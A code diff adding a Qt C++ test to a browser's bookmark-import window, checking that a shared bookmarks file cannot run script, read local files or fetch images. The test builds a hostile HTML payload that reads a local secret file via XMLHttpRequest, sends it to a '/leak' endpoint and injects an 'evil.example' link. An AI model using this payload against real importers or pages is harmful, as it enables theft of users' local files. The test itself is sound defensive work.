@@ -1,5 +1,5 @@
-// The import and export window's import through the compatibility engine's module: the messages,
-// who is told to rebuild, and a manager that shows what was imported from it.
+// The import and export window's import: the messages, who is told to rebuild, a manager that
+// shows what was imported from it, a hostile file, and a large file imported off the UI thread.
 #include "common/Messages.h"
 #include "downloads/ModalAnswerer.h"
 #include "favorites/BookmarkFile.h"
@@ -9,6 +9,7 @@
 #include "favorites/FormManageFav.h"
 #include "support/EngineTestMain.h"
 #include "support/TestDb.h"
+#include "support/TestServer.h"
 
 #include <QSignalSpy>
 
@@ -103,6 +104,44 @@ private slots:
         QVERIFY(finished.wait(20000));
         QTRY_COMPARE(manager.Model()->rowCount(), 2);
         QVERIFY(manager.Changed());
+    }
+
+    // A shared bookmark file is data: its script must not read the user's files, reach a server or
+    // write links of its own, and its images are not fetched.
+    void hostileFileRunsNothingAndLoadsNothing() {
+        TTestDb data;
+        TFavorites favorites(data.Db());
+        TTestServer server;
+        QVERIFY2(server.Running(), qPrintable(server.ErrorText()));
+        const QString secret = data.DirPath() + QStringLiteral("/secret.txt");
+        QFile secretFile(secret);
+        QVERIFY(secretFile.open(QIODevice::WriteOnly));
+        secretFile.write("the user's secret");
+        secretFile.close();
+        secretFile.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
+        const QString script =
+            QStringLiteral(
+                "<script>var x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
+                "new Image().src = '%2?' + encodeURIComponent(x.responseText);"
+                "document.write('<DT><A HREF=\"http://evil.example/\" FAV_POS=\"1\" >evil</A>');</script>")
+                .arg(QUrl::fromLocalFile(secret).toString(), server.Url("/leak"));
+        const QString file = data.DirPath() + QStringLiteral("/bookmarks.html");
+        QFile html(file);
+        QVERIFY(html.open(QIODevice::WriteOnly));
+        html.write("<!DOCTYPE NETSCAPE-Bookmark-file-1>\r\n<DL><p>\r\n"
+                   "<DT><A HREF=\"http://a/\" FAV_POS=\"1\" >A</A>\r\n" +
+                   script.toUtf8() + "<img src=\"" + server.Url("/img").toUtf8() + "\">\r\n</DL><p>\r\n");
+        html.close();
+        TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, nullptr);
+        window->SetOpenFileChooser([file](QWidget*) { return file; });
+        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
+        TModalAnswerer driver;
+        window->ImportClick();
+        QVERIFY(finished.wait(20000));
+        QVERIFY(server.Stats().isEmpty());
+        QVERIFY(favorites.LoadFavorites());
+        QCOMPARE(favorites.Items.size(), 1);
+        QCOMPARE(favorites.Items.at(0).FavUrl, QStringLiteral("http://a/"));
     }
 
     void manageLabelAsksTheMainWindow() {
